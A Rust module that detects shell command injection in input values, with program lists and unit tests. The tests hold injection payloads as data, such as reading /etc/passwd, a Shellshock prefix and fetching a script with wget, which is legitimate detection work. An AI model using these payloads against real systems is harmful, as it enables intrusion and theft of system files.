//! Command injection: a shell command where a value should be data. A command counts when it
//! follows a shell separator (`;`, `|`, `&`, a newline, a backtick, `$(`) or opens the value, and
//! is a known program or an absolute path under a `bin` directory. Programs that are also English
//! words (`cat`, `sleep`, `find`, `more`) count only with a shell-like argument (`-x`, `/path`, a
//! number, `$VAR`, a quote, a redirection) or, after a strong separator, nothing at all; so
//! `rock & roll`, `find & replace` and `Hello; sleep tight` stay quiet while `;id`, `| id |`,
//! `; /bin/sleep 31 ;` and `&& cat /etc/passwd` do not.

/// Programs an injected command runs that are not everyday words.
const PROGRAMS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "ls",
    "pwd",
    "cmd",
    "powershell",
    "pwsh",
    "systeminfo",
    "tasklist",
    "taskkill",
    "nmap",
    "telnet",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "lua",
    "busybox",
    "chmod",
    "chown",
    "rm",
    "mkdir",
    "passwd",
    "ps",
    "printenv",
    "hostname",
    "uptime",
    "nohup",
    "base64",
    "xxd",
    "hexdump",
    "gcc",
    "tftp",
    "ftp",
    "ssh",
    "scp",
    "traceroute",
    "tracert",
    "ping",
    "getent",
    "sudo",
    "crontab",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "vssadmin",
    "tac",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "xargs",
    "usleep",
    "killall",
    "pkill",
    "cscript",
    "wscript",
    "net1",
    "ipconfig.exe",
    "whoami.exe",
    "ping.exe",
    "cmd.exe",
    "powershell.exe",
    "sysinfo",
    "lsb_release",
    "arp",
    "ss",
    "dig",
];

/// Programs that are also words people write; they need a shell-like argument (see the module doc).
const WORDS: &[&str] = &[
    "cat", "sleep", "echo", "type", "more", "less", "head", "tail", "find", "sort", "cut", "time", "set", "print",
    "export", "source", "test", "true", "false", "kill", "net", "host", "dir", "exec", "eval", "printf", "reg", "ver",
    "wc", "nl", "bc", "od", "su", "timeout", "whois", "nice", "touch", "file", "expr", "uniq", "start", "node",
    "route", "env",
];

/// Interpreters' functions that run a command: `;system('id')`.
const CALLS: &[&str] = &["system(", "exec(", "passthru(", "shell_exec(", "popen(", "proc_open(", "pcntl_exec("];

/// How a candidate command position was reached.
#[derive(Clone, Copy, PartialEq, Eq)]
enum After {
    /// The start of the value: a command line only if every argument is shell-like (`ping -n 30
    /// 127.0.0.1`, not `sleep 8 hours`), the program is chained (`id;`), or it is a path under `bin`.
    Start,
    /// `&` or `|` alone: words need an argument, programs do not.
    Weak,
    /// `;`, `&&`, `||`, a newline, a backtick or `$(`.
    Strong,
}

/// The injected command found in `v` (lower-cased and decoded by the caller), as evidence.
pub fn command_injection(v: &str) -> Option<&str> {
    if let Some(found) = shellshock(v) {
        return Some(found);
    }
    if let Some(at) = v.find("<!--#exec") {
        return Some(&v[at..]);
    }
    if let Some(at) = v.find("${ifs}").or_else(|| v.find("$ifs")) {
        return Some(&v[at..]);
    }
    for call in CALLS {
        if let Some(at) = v.find(call) {
            let arg = v[at + call.len()..].trim_start();
            if arg.starts_with(['\'', '"', '$']) && !v[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            {
                return Some(&v[at..]);
            }
        }
    }
    let b = v.as_bytes();
    if let Some(found) = command_at(v, 0, After::Start) {
        return Some(found);
    }
    let mut i = 0;
    while i < b.len() {
        let (after, skip) = match b[i] {
            b';' | b'\n' | b'\r' | b'`' => (After::Strong, 1),
            b'&' | b'|' if b.get(i + 1) == Some(&b[i]) => (After::Strong, 2),
            b'&' | b'|' => (After::Weak, 1),
            b'$' if b.get(i + 1) == Some(&b'(') => (After::Strong, 2),
            _ => {
                i += 1;
                continue;
            }
        };
        if let Some(found) = command_at(v, i + skip, after) {
            return Some(&v[i..i + skip + found.len()]);
        }
        i += skip;
    }
    None
}

/// `() { :; }; …`: the Shellshock function-definition prefix, the only command judged in a
/// header (user agents are full of `;`).
pub fn shellshock(v: &str) -> Option<&str> {
    v.find("() {").or_else(|| v.find("(){")).map(|at| &v[at..])
}

/// The command and its first argument at `start`, if one is there.
fn command_at(v: &str, start: usize, after: After) -> Option<&str> {
    let rest = &v[start..];
    let lead = rest.len() - rest.trim_start_matches([' ', '\t', '\'', '"', '(', '{']).len();
    let word_start = start + lead;
    let word_len = v[word_start..]
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-' | b'/' | b'\\' | b':'))
        .count();
    if word_len == 0 {
        return None;
    }
    let word = &v[word_start..word_start + word_len];
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let in_bin = word.starts_with('/')
        && ["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/"]
            .iter()
            .any(|d| word.starts_with(d) && word.len() > d.len());
    let after_word = &v[word_start + word_len..];
    let arg = argument(after_word);
    let program = in_bin || PROGRAMS.contains(&name);
    let hit = match after {
        After::Start => {
            let command_line =
                after_word.split_whitespace().all(|t| shell_like(Some(t)) || !t.contains(char::is_alphanumeric));
            let chained = program && after_word.starts_with([';', '|', '&', '`']);
            in_bin || chained || ((program || WORDS.contains(&name)) && shell_like(arg) && command_line)
        }
        After::Weak => program || (WORDS.contains(&name) && shell_like(arg)),
        After::Strong => program || (WORDS.contains(&name) && (shell_like(arg) || ends_command(after_word))),
    };
    hit.then(|| {
        &v[start
            ..word_start + word_len + arg.map_or(0, |a| a.len() + (after_word.len() - after_word.trim_start().len()))]
    })
}

/// The next whitespace-separated argument, if the word is followed by one.
fn argument(after_word: &str) -> Option<&str> {
    let t = after_word.trim_start_matches([' ', '\t']);
    if t.len() == after_word.len() || t.is_empty() {
        return None;
    }
    let len = t.find([' ', '\t', ';', '|', '&', '`']).unwrap_or(t.len());
    (len > 0).then(|| &t[..len])
}

/// An argument a shell user writes and prose does not: an option, a path, a number, a variable, a
/// quoted string, a drive letter.
fn shell_like(arg: Option<&str>) -> bool {
    let Some(a) = arg else { return false };
    let b = a.as_bytes();
    matches!(b[0], b'-' | b'/' | b'\\' | b'$' | b'~' | b'.' | b'\'' | b'"' | b'>' | b'<' | b'0'..=b'9')
        || (b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':')
}

/// Nothing follows the command but the end of the value, a separator or a closing quote.
fn ends_command(after_word: &str) -> bool {
    let t = after_word.trim_start_matches([' ', '\t', '\'', '"', ')']);
    t.is_empty() || t.starts_with([';', '|', '&', '`', '\n', '#'])
}

#[cfg(test)]
mod tests {
    use super::command_injection as ci;

    #[test]
    fn injected_commands_are_found() {
        for v in [
            ";id",
            "|id|",
            "a);id",
            "| id",
            "& id",
            "; id",
            "||/usr/bin/id;",
            "/usr/bin/id",
            "`id`",
            "`uname`",
            "; /bin/sleep 31 ;",
            "' ; /bin/sleep 31 ;",
            "& ping -n 30 127.0.0.1 &",
            "ping -i 30 127.0.0.1",
            "cat /etc/passwd",
            "/bin/ls -al",
            ";netstat -a;",
            "&& dir c:",
            "| dir c:/",
            ";system('id')",
            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
            "$(whoami)",
            "x\ncat /etc/passwd",
            "a;cat${ifs}/etc/passwd",
            "() { :; }; /bin/bash -c 'id'",
            "1 && sleep 5",
            "foo;echo 'vulnerable'",
            "|| wget http://x/s.sh",
            "ping.exe -n 31 127.0.0.1",
            "test`sleep 5`",
            "\" ping.exe -n 31 127.0.0.1",
            "id;",
            "id|",
            "ls -la",
        ] {
            assert!(ci(v).is_some(), "{v:?} was missed");
        }
    }

    #[test]
    fn prose_and_ordinary_values_are_not_commands() {
        for v in [
            "rock & roll",
            "find & replace",
            "hello; sleep tight",
            "salt & pepper",
            "q&a",
            "tom & jerry's",
            "fish & chips & more",
            "c++",
            "1+1=2",
            "a|b",
            "1;2;3",
            "terms & conditions",
            "read & write",
            "black & white; cat lovers",
            "id",
            "cat",
            "sleep",
            "echo",
            "my id is 5",
            "ls",
            "python tutorial",
            "curl up with a book",
            "ping pong",
            "the cat sat",
            "size: s|m|l",
            "a;b;c",
            "black|white",
            "rm -rf is a famous command",
            "sleep 8 hours",
            "cat /dev/null jokes",
            "ls -la output explained",
        ] {
            assert_eq!(ci(v), None, "{v:?} was flagged");
        }
    }

    #[test]
    fn the_evidence_is_the_command() {
        assert_eq!(ci("foo; cat /etc/passwd").unwrap(), "; cat /etc/passwd");
        assert_eq!(ci("x|id|").unwrap(), "|id");
    }
}
